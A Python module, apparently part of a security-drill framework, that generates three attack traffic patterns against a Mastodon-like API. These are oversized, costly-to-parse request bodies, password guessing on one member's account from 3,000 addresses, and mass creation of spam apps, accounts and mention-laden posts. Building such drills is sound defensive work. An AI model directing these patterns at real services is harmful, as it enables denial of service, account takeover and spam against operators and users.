"""A18, A19, A20: expensive requests: large bodies, guesses at one account's password, filling the store."""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import lru_cache
from random import Random

from stormpetrel.drill.vectors.attack_requests import AttackRequest, World, arrivals, scattered
from stormpetrel.drill.vectors.heads import BROWSERS, TOOLS, app_agent, submit
from stormpetrel.drill.vectors.sign_ins import sign_in
from stormpetrel.drill.wire import request

BODIES_PER_S = 1200.0
BODY_SOURCES = 20
BODY_BYTES = 60_000
GUESSES_PER_S = 120.0
GUESS_ADDRESSES = 3000
FILLING_PER_S = 60.0
FILLING_ADDRESSES = 30
_APP_TEXT = "x" * 2000
_MENTIONS = 5
_POSTS_SHARE, _APPS_SHARE = 0.4, 0.4


def bodies(world: World, rng: Random) -> Iterator[AttackRequest]:
    """A18: the largest accepted bodies, expensive to decode, on twenty reused connections."""
    made = _bodies(world.host)
    for at_s in arrivals(rng, BODIES_PER_S * world.scale, world.seconds):
        source = scattered(168, 1, rng.randrange(BODY_SOURCES))
        yield AttackRequest(at_s, source, (rng.choice(made),), keep=source)


@lru_cache(maxsize=4)
def _bodies(host: str) -> tuple[bytes, ...]:
    form, jsons = "application/x-www-form-urlencoded", "application/json"
    texts = (
        ("/api/v1/apps", form, b"client_name=" + b"%41" * (BODY_BYTES // 3)),
        ("/oauth/token", form, b"%25" * (BODY_BYTES // 3)),
        ("/api/v1/apps", jsons, b'{"client_name":[' + b"[]," * 3000 + b"0]}"),
        ("/api/v1/apps", jsons, b'{"client_name":[' + b"1.2345678901234567e-300," * 2400 + b"0]}"),
        ("/auth/sign_in", form, b"a=" + b"%E0%B8%81" * (BODY_BYTES // 9)),
    )
    return tuple(
        request("POST", path, host=host, headers={"User-Agent": TOOLS[0], "Content-Type": kind}, body=body)
        for path, kind, body in texts
    )


def guesses(world: World, rng: Random) -> Iterator[AttackRequest]:
    """A19: guess the password of one member from 3,000 addresses."""
    name = world.community.victim.name
    for at_s in arrivals(rng, GUESSES_PER_S * world.scale, world.seconds):
        password = f"{rng.choice(('password', 'summer', 'welcome'))}{rng.randrange(100_000)}"
        data = sign_in(world, rng, name=name, password=password, agent=rng.choice(BROWSERS))
        yield AttackRequest(at_s, scattered(169, 1, rng.randrange(GUESS_ADDRESSES)), (data,))


def filling(world: World, rng: Random) -> Iterator[AttackRequest]:
    """A20: fill the store with large applications, accounts, and new accounts' posts with five mentions."""
    newcomers = [one for one in world.community.newcomers if one.token][:FILLING_ADDRESSES]
    names = world.community.names
    for at_s in arrivals(rng, FILLING_PER_S * world.scale, world.seconds):
        drawn = rng.random()
        source = scattered(170, 1, rng.randrange(FILLING_ADDRESSES))
        if drawn < _POSTS_SHARE and newcomers:
            one = rng.choice(newcomers)
            text = " ".join(f"@{rng.choice(names)}" for _ in range(_MENTIONS)) + f" {rng.getrandbits(64):x}"
            headers = {
                "User-Agent": app_agent(one.app),
                "Authorization": f"Bearer {one.token}",
                "Content-Type": "application/json",
            }
            body = json.dumps({"status": text}).encode()
            data = request("POST", "/api/v1/statuses", host=world.host, headers=headers, body=body)
            yield AttackRequest(at_s, one.address, (data,), keep=f"filling {one.name}")
        elif drawn < _POSTS_SHARE + _APPS_SHARE:
            fields = {
                "client_name": f"{rng.getrandbits(64):x}",
                "redirect_uris": f"https://app.example/{_APP_TEXT}",
                "website": f"https://app.example/{_APP_TEXT}",
            }
            yield AttackRequest(
                at_s, source, (submit(world.host, "/api/v1/apps", rng.choice(TOOLS), fields),)
            )
        else:
            yield AttackRequest(at_s, source, (_sign_up(world, rng),))


def _sign_up(world: World, rng: Random) -> bytes:
    name = f"f{rng.getrandbits(40):x}"
    fields = {
        "user[username]": name,
        "user[email]": f"{name}@mail.example",
        "user[password]": f"{rng.getrandbits(80):x}",
        "user[agreement]": "1",
    }
    cookies: dict[str, str] = {}
    drawn = rng.random()
    if world.forms:
        shown = world.forms[int(drawn * len(world.forms))]
        fields["csrf"] = shown.token
        cookies["Cookie"] = shown.cookie
    return submit(world.host, "/auth/sign_up", rng.choice(BROWSERS), fields, cookies)
